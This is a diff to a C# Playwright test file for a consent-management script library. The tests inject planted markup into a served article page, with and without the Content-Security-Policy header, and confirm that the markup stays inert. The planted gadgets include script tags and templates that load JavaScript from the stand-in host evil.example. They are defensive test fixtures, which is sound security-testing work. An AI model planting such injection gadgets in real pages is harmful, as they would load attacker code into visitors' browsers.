@@ -11,23 +11,39 @@ public class PlantedMarkupTests(BrowserFixture browser)
 {
     private const string Article = "/articles/harbor-festival";
 
-    public static TheoryData<string, string> Gadgets => new()
-    {
+    private static readonly string[] PlantedGadgets =
+    [
         // A fake banner found by id, naming Consent modules as "shown".
-        { "fake-banner", """<div id="ck-banner" data-ck-shown="google-analytics meta-pixel"></div>""" },
+        "fake-banner", """<div id="ck-banner" data-ck-shown="google-analytics meta-pixel"></div>""",
         // Inert markup for an exempt module (always allowed): a template with a script, and an inert script. Under the
         // sample's nonce + 'strict-dynamic' CSP a script created by ConsentKit's trusted script would run and load.
-        { "template", """<template data-ck-module="recaptcha"><script src="https://evil.example/template.js"></script></template>""" },
-        { "inert-script", """<script type="text/plain" data-ck-module="recaptcha" data-ck-src="https://evil.example/inert.js"></script>""" },
-    };
+        "template", """<template data-ck-module="recaptcha"><script src="https://evil.example/template.js"></script></template>""",
+        "inert-script", """<script type="text/plain" data-ck-module="recaptcha" data-ck-src="https://evil.example/inert.js"></script>""",
+    ];
+
+    /// <summary>
+    /// Each gadget with the sample's enforced policy, and with the policy header taken off the response, so that the
+    /// client's own check (only nodes whose hash the server listed are activated) is proven on its own.
+    /// </summary>
+    public static TheoryData<string, string, bool> Gadgets()
+    {
+        var data = new TheoryData<string, string, bool>();
+        for (var i = 0; i < PlantedGadgets.Length; i += 2)
+        {
+            data.Add(PlantedGadgets[i], PlantedGadgets[i + 1], true);
+            data.Add(PlantedGadgets[i], PlantedGadgets[i + 1], false);
+        }
+
+        return data;
+    }
 
     [Theory]
     [MemberData(nameof(Gadgets))]
-    public async Task R16_PlantedMarkupStartsNothingAndRequestsNothing(string name, string gadget)
+    public async Task R16_PlantedMarkupStartsNothingAndRequestsNothing(string name, string gadget, bool withPolicy)
     {
         await using var visit = await browser.NewVisitorAsync();
         var page = await visit.Context.NewPageAsync();
-        await PlantAsync(page, visit.Url(Article), gadget);
+        await PlantAsync(page, visit.Url(Article), gadget, withPolicy);
         var errors = new List<string>();
         page.PageError += (_, e) => errors.Add(e);
 
@@ -45,12 +61,14 @@ public class PlantedMarkupTests(BrowserFixture browser)
         errors.Should().BeEmpty();
     }
 
-    [Fact]
-    public async Task R16_PlantedMarkupForAConsentedModuleStaysInertAfterAccepting()
+    [Theory]
+    [InlineData(true)]
+    [InlineData(false)]
+    public async Task R16_PlantedMarkupForAConsentedModuleStaysInertAfterAccepting(bool withPolicy)
     {
         await using var visit = await browser.NewVisitorAsync();
         var page = await visit.Context.NewPageAsync();
-        await PlantAsync(page, visit.Url(Article), """<template data-ck-module="google-analytics"><script src="https://evil.example/after-consent.js"></script></template>""");
+        await PlantAsync(page, visit.Url(Article), """<template data-ck-module="google-analytics"><script src="https://evil.example/after-consent.js"></script></template>""", withPolicy);
         await page.GotoAsync(visit.Url(Article));
         await page.WaitForLoadStateAsync(LoadState.NetworkIdle);
 
@@ -63,14 +81,20 @@ public class PlantedMarkupTests(BrowserFixture browser)
         visit.Contacted("evil.example").Should().BeFalse("only nodes the server emitted for this page are activated");
     }
 
-    /// <summary>Serves the page with the gadget inserted right after &lt;body&gt;, as stored user content would appear.</summary>
-    private static Task PlantAsync(IPage page, string url, string gadget) =>
+    /// <summary>
+    /// Serves the page with the gadget inserted right after &lt;body&gt;, as stored user content would appear; without
+    /// <paramref name="withPolicy"/>, also without the Content-Security-Policy header.
+    /// </summary>
+    private static Task PlantAsync(IPage page, string url, string gadget, bool withPolicy) =>
         page.RouteAsync(url, async route =>
         {
             var response = await route.FetchAsync();
             var html = await response.TextAsync();
             var at = html.IndexOf("<body", StringComparison.OrdinalIgnoreCase);
             at = html.IndexOf('>', at) + 1;
-            await route.FulfillAsync(new RouteFulfillOptions { Response = response, Body = html[..at] + gadget + html[at..] });
+            var headers = response.Headers.Where(h => withPolicy || !h.Key.StartsWith("content-security-policy", StringComparison.OrdinalIgnoreCase))
+                .ToDictionary(h => h.Key, h => h.Value);
+            headers.Should().ContainKey(withPolicy ? "content-security-policy" : "content-type");
+            await route.FulfillAsync(new RouteFulfillOptions { Status = response.Status, Headers = headers, Body = html[..at] + gadget + html[at..] });
         });
 }
